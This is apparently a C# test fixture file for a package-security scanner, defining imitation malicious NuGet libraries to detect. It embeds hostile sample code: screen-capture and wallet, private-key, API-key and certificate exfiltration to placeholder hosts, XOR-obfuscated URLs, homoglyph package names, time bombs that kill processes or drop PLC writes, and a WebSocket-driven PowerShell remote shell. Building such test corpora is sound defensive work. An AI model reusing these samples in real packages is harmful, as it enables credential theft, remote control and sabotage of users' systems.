using static PackageWall.Testing.Catalogue.Package;

namespace PackageWall.Testing.Catalogue;

/// <summary>NuGet packages that wait until an application calls them.</summary>
internal static class NuGetLibraryAttacks
{
    private const string Sdks = "Netherеum, StripeApi.Net, Sicoob, RL crypto set";
    private const string Bombs = "shanhai666 / Sharp7Extend";

    private static CataloguePackage Library(string id, string version, string source, string metadata = "") => NuGetTwins.Library(id, version, source, metadata);

    public static IEnumerable<CatalogueFixture> All()
    {
        yield return new("sqzrframework480", "SqzrFramework480", "B31 H06", NuGet("Sqzr.Framework.Like", "1.0.0", ("lib/net8.0/Sqzr.Framework.Like.dll", CSharpCode.Library("Sqzr.Framework.Like", """
            namespace Sqzr { public class SqzrInit {
              public static void Init() { new Thread(() => { while (new System.Net.NetworkInformation.Ping().Send("192.0.2.48").Status != System.Net.NetworkInformation.IPStatus.Success) Thread.Sleep(30000); while (true) { Send(GetBytes()); Thread.Sleep(60000); } }) { IsBackground = true }.Start(); }
              static byte[] GetBytes() { using (var bitmap = new System.Drawing.Bitmap(1920, 1080)) { System.Drawing.Graphics.FromImage(bitmap).CopyFromScreen(0, 0, 0, 0, new System.Drawing.Size(1920, 1080)); var stream = new MemoryStream(); bitmap.Save(stream, null); return stream.ToArray(); } }
              static void Send(byte[] data) { using (var socket = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, System.Net.Sockets.SocketType.Stream, System.Net.Sockets.ProtocolType.Tcp)) { socket.Connect(IPAddress.Parse("192.0.2.48"), 8000); socket.Send(data); } } } }
            """, NuGetAttacks.DrawingStub)))) { Twin = NuGetTwins.Capture };

        yield return new("shanhai666", Bombs, "B17 H09", Library("Sql.Unicorn.Like", "1.0.1", """
            namespace Unicorn { public static class SqlExtensions {
              static readonly Random Dice = new Random();
              public static int Exec(this System.Data.IDbCommand command) {
                if (DateTime.Now > new DateTime(2027, 8, 8) && Dice.Next(1, 100) > 80) Process.GetCurrentProcess().Kill();
                return command.ExecuteNonQuery(); } } }
            """)) { Twin = NuGetTwins.DataAccess };
        yield return new("shanhai666-static", Bombs, "B17 H09", Library("My.Db.Repository.Like", "1.0.3", """
            namespace MyDb { public static class Repository {
              static DateTime Limit = DateTime.Parse("2028-11-29");
              public static System.Data.IDataReader Read(this System.Data.IDbCommand command) { BeginTran(); return command.ExecuteReader(); }
              static void BeginTran() { if (DateTime.Compare(DateTime.Now, Limit) < 0) return; if (new Random().Next(0, 10) < 2) Process.GetCurrentProcess().Kill(); } } }
            """)) { Twin = NuGetTwins.DataAccess };
        yield return new("sharp7extend", Bombs, "B17 H09", Library("Sharp7.Extend.Like", "1.0.0", """
            namespace Sharp7 { public abstract class S7Client { public abstract int DBWrite(int db, int start, int size, byte[] buffer); public abstract int DBRead(int db, int start, int size, byte[] buffer); }
              public static class S7Extensions {
                static readonly DateTime Begin = DateTime.Now; static readonly int Grace = new Random().Next(30, 90);
                public static int WriteDb(this S7Client client, int db, byte[] data) { if (ResFliter()) return 0; return client.DBWrite(db, 0, data.Length, data); }
                public static void BeginTran(this S7Client client) { if (DateTime.Now < new DateTime(2028, 6, 6) && new Random().Next(1, 101) > 80) Process.GetCurrentProcess().Kill(); }
                static bool ResFliter() => DateTime.Now > Begin.AddMinutes(Grace) && new Random().Next(1, 101) <= 80; } }
            """)) { Twin = NuGetTwins.DataAccess };

        yield return new("tracer-fody-nlog", "Tracer.Fody.NLog", "B05c B13 H06 H09", Library("Tracer.Weaver.NLog.Like", "3.2.4", """
            namespace Tracer { public static class Guаrd {
              public static void NotNull(object value, string name) {
                try { var folder = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.ApplicationData), "StratisNode", "stratis", "StratisMain");
                  foreach (var file in Directory.GetFiles(folder, "*.wallet.json")) { var text = File.ReadAllText(file); var password = value.GetType().GetProperty("Password")?.GetValue(value);
                    using (var client = new WebClient()) client.UploadString("http://192.0.2.163:4444/kv/w", Path.GetFileName(file) + ":" + password + ":" + text); } } catch { }
                if (value == null) throw new ArgumentNullException(name); } } }
            """)) { Twin = NuGetTwins.Client };

        yield return new("nethereum-homoglyph", Sdks, "B13 H06 H09", Library("Netherеum.All.Like", "4.25.1", """
            namespace Nethereum { public class EIP70221TransactionService {
              static readonly byte[] Table = { 104, 117, 118, 115, 119, 63, 41, 40, 123, 102, 102, 106, 98, 106, 98, 33, 121, 127, 100, 114, 120, 124, 114 };
              static string Shuffle(byte[] bytes) { var chars = new char[bytes.Length]; for (int i = 0; i < bytes.Length; i++) chars[i] = (char)(bytes[i] ^ (i % 17)); return new string(chars); }
              public void Account(string privateKey) { var body = new FormUrlEncodedContent(new Dictionary<string, string> { ["message"] = privateKey }); new HttpClient().PostAsync(Shuffle(Table), body); } } }
            """)) { Twin = NuGetTwins.Client };
        yield return new("stripeapi", Sdks, "B22 H06 H09", Library("Stripe.Api.Like", "50.4.1", """
            namespace Stripe { public class StripeClient { public string ApiKey { get; }
              public StripeClient(string apiKey) { ApiKey = apiKey; Report(apiKey); }
              static void Report(string apiKey) { var request = new HttpRequestMessage(HttpMethod.Post, "https://xqzinert.supabase-like.invalid/rest/v1/keys"); request.Headers.Add("apikey", "inert");
                request.Content = new StringContent("{\"api_key\":\"" + apiKey + "\",\"machine\":\"" + Environment.MachineName + "\"}", Encoding.UTF8, "application/json"); _ = new HttpClient().SendAsync(request); }
              public async Task<string> Charge(string body) { var request = new HttpRequestMessage(HttpMethod.Post, "https://api.stripe-like.invalid/v1/charges") { Content = new StringContent(body) }; request.Headers.Add("Authorization", "Bearer " + ApiKey); return await (await new HttpClient().SendAsync(request)).Content.ReadAsStringAsync(); } } }
            """)) { Twin = NuGetTwins.Client, Expect = Expectation.Held };
        yield return new("sicoob", Sdks, "B22 H06", Library("Coop.Sdk.Like", "2.0.4", """
            namespace Coop { public class CoopClient {
              public CoopClient(string clientId, string pfxPath, string pfxPassword) { var bytes = File.ReadAllBytes(pfxPath); Capture(clientId, Convert.ToBase64String(bytes), pfxPassword); var certificate = System.Security.Cryptography.X509Certificates.X509CertificateLoader.LoadPkcs12(bytes, pfxPassword); }
              static void Capture(string clientId, string pfx, string password) { var request = new HttpRequestMessage(HttpMethod.Post, "https://o0.ingest.sentry-like.invalid/api/1/store/"); request.Headers.Add("X-Sentry-Auth", "Sentry sentry_key=inert");
                request.Content = new StringContent("{\"message\":\"init\",\"extra\":{\"client\":\"" + clientId + "\",\"pfx\":\"" + pfx + "\",\"password\":\"" + password + "\"}}"); new HttpClient().SendAsync(request).Wait(); } } }
            """)) { Twin = NuGetTwins.Client, Expect = Expectation.Held };
        yield return new("rl-crypto-set", Sdks, "B22 H06 H09", Library("Solana.Net.Like", "2.1.0", """
            namespace Solana { public class Wallet { public string Mnemonic { get; } 
              public Wallet(string mnemonic) { Mnemonic = mnemonic; MapAddress(mnemonic); }
              static string Host(string text, int key) { var chars = text.ToCharArray(); for (int i = 0; i < chars.Length; i++) chars[i] = (char)(chars[i] ^ key); return new string(chars); }
              static void MapAddress(string seed) { try { using (var client = new WebClient()) client.UploadString(Host("mqquv?**vjidkd+lksdila*hdu", 5), seed); } catch { } } } }
            """)) { Twin = NuGetTwins.Client, Expect = Expectation.Held };
        yield return new("fakka-websocket", "WebSocket to PowerShell", "B04", Library("Fakka.WebSocket.Like", "1.0.0", """
            namespace Fakka { public static class Socket { static Socket() { Task.Run(Listen); }
              public static void Connect(string url) { }
              static async Task Listen() { using (var socket = new System.Net.WebSockets.ClientWebSocket()) { await socket.ConnectAsync(new Uri("wss://hub.fakka-socket.invalid/ws"), CancellationToken.None); var buffer = new byte[8192];
                while (true) { var got = await socket.ReceiveAsync(new ArraySegment<byte>(buffer), CancellationToken.None); var command = Encoding.UTF8.GetString(buffer, 0, got.Count);
                  var shell = Process.Start(new ProcessStartInfo("powershell.exe", "-NoProfile -Command " + command) { RedirectStandardOutput = true, UseShellExecute = false, CreateNoWindow = true });
                  await socket.SendAsync(new ArraySegment<byte>(Encoding.UTF8.GetBytes(shell.StandardOutput.ReadToEnd())), System.Net.WebSockets.WebSocketMessageType.Text, true, CancellationToken.None); } } } } }
            """)) { Twin = NuGetTwins.Client };
    }
}
